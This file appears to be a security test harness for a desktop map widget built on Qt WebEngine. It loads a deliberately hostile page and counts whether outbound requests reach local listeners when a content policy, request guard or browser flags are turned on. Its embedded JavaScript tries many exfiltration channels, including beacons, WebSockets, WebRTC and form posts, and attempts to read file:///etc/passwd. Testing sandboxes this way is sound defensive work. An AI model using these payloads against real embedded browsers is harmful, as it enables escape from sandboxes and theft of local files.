"""A hostile page in a map engine, run as a process of its own.

    python hostile_page.py [policy] [guard] [flags] [peers]

Each word turns a protection on; ``peers`` lets the page try peer connections too.
Prints what the listeners on this machine saw, and what the page could do, as JSON;
what has to be seen of an attack is waited for, however busy the machine is.
"""

from __future__ import annotations

import json
import re
import sys

from PySide6.QtCore import QTimer
from PySide6.QtNetwork import QHostAddress, QTcpServer, QUdpSocket
from PySide6.QtWidgets import QApplication, QWidget

from aliquot.widgets.map import scheme
from aliquot.widgets.map.documents import Documents
from aliquot.widgets.map.page import with_policy

TIMEOUT_MS = 120_000
LOOK_MS = 50
BLOCKED = 6  # requests at the least, where nothing but the guard stops them
ATTACK = """
"use strict";
const at = "http://127.0.0.1:PORT/";
const tries = [];
const settled = (what) => new Promise((resolve) => {
  what.onload = what.onerror = what.onclose = resolve;
});
const image = new Image();
tries.push(settled(image));
image.src = at + "image.png";
for (const [tag, key] of [["script", "src"], ["iframe", "src"], ["object", "data"]]) {
  const element = document.createElement(tag);
  tries.push(settled(element));
  element[key] = at + tag;
  document.body.append(element);
}
for (const rel of ["stylesheet", "prefetch", "preload", "icon"]) {
  const link = document.createElement("link");
  Object.assign(link, { rel, href: at + rel, as: "image" });
  document.head.append(link);
}
tries.push(fetch(at + "fetch").catch(() => 0));
tries.push(fetch(at + "opaque", { mode: "no-cors" }).catch(() => 0));
tries.push(fetch("file:///etc/passwd").then(() => (stolen = true)).catch(() => 0));
let stolen = false;
navigator.sendBeacon(at + "beacon", "x");
try { tries.push(settled(new WebSocket(at.replace("http", "ws")))); } catch {}
try { tries.push(settled(new EventSource(at + "events"))); } catch {}
try { new Worker(at + "worker.js"); } catch {}
open(at + "window");
const form = document.createElement("form");
Object.assign(form, { action: at + "form", method: "post" });
document.body.append(form);
form.submit();
const limit = new Promise((resolve) => setTimeout(resolve, 800));
Promise.race([Promise.all(tries), limit]).then(() => {
  location.href = at + "navigate";
  setTimeout(() => { document.title = stolen ? "stolen" : "tried"; }, 300);
});
"""
PAGE = """<!DOCTYPE html><html><head><title>page</title></head><body>
<script>document.body.dataset.inline = "ran";</script>
<script src="aliquot://map/attack.js"></script>
</body></html>"""
PEERS = """
const inner = document.createElement("iframe");
document.body.append(inner);
for (const realm of [globalThis, inner.contentWindow]) {
  try {
    const turn = { urls: "turn:127.0.0.1:PORT?transport=tcp" };
    Object.assign(turn, { username: "x", credential: "x" });
    const iceServers = [{ urls: "stun:127.0.0.1:UDP" }, turn];
    const peer = new realm.RTCPeerConnection({ iceServers });
    peer.createDataChannel("x");
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  } catch {}
}
"""


class Listener:
    """A TCP and a UDP port on this machine that count what comes."""

    def __init__(self) -> None:
        self.tcp = QTcpServer()
        assert self.tcp.listen(QHostAddress(QHostAddress.SpecialAddress.LocalHost))
        self.udp = QUdpSocket()
        assert self.udp.bind(QHostAddress(QHostAddress.SpecialAddress.LocalHost), 0)
        self.connections = 0
        self.datagrams = 0
        self.tcp.newConnection.connect(self._connected)
        self.udp.readyRead.connect(self._datagram)

    def _datagram(self) -> None:
        self.datagrams += 1

    def _connected(self) -> None:
        self.connections += 1
        while waiting := self.tcp.nextPendingConnection():
            waiting.abort()


def page(listener: Listener, words: set[str]) -> Documents:
    script = ATTACK + (PEERS if "peers" in words else "")
    script = script.replace("PORT", str(listener.tcp.serverPort()))
    script = script.replace("UDP", str(listener.udp.localPort()))
    html = PAGE
    if "policy" in words:  # without the hash, as nobody approved the inline script
        html = re.sub(r" 'sha256-[^']+'", "", with_policy(PAGE))
    return Documents(made={"attack.html": html.encode(), "attack.js": script.encode()})


def main(words: set[str]) -> int:
    if "flags" not in words:
        scheme.CHROMIUM_FLAGS = ()
    assert scheme.register_scheme()
    application = QApplication(sys.argv[:1])
    from aliquot.widgets.map.bridge import MapBridge
    from aliquot.widgets.map.engine import MapEngine

    listener = Listener()
    parent = QWidget()
    engine = MapEngine(
        page(listener, words), MapBridge(parent), parent, guarded="guard" in words
    )

    def seen() -> bool:
        """What comes of the attack at last, with these protections."""
        if "policy" not in words and "guard" in words:
            return engine.guard.blocked >= BLOCKED
        if words & {"policy", "flags"}:
            return True
        heard = "peers" not in words or listener.datagrams > 0
        return listener.connections > 0 and heard

    def told(inline: object) -> None:
        found = {
            "connections": listener.connections,
            "datagrams": listener.datagrams,
            "blocked": engine.guard.blocked,
            "title": engine.page.title(),
            "inline": inline,
        }
        print(json.dumps(found))
        engine.shutdown()
        application.quit()

    def ask() -> None:
        engine.page.runJavaScript("document.body.dataset.inline === 'ran'", told)

    def look() -> None:
        tried = engine.page.title() in ("tried", "stolen")
        if (tried and seen()) or not late.isActive():
            looking.stop()
            ask()

    late = QTimer(singleShot=True)
    late.start(TIMEOUT_MS)
    looking = QTimer()
    looking.timeout.connect(look)
    looking.start(LOOK_MS)
    engine.load("attack.html")
    return application.exec()


if __name__ == "__main__":
    sys.exit(main(set(sys.argv[1:])))
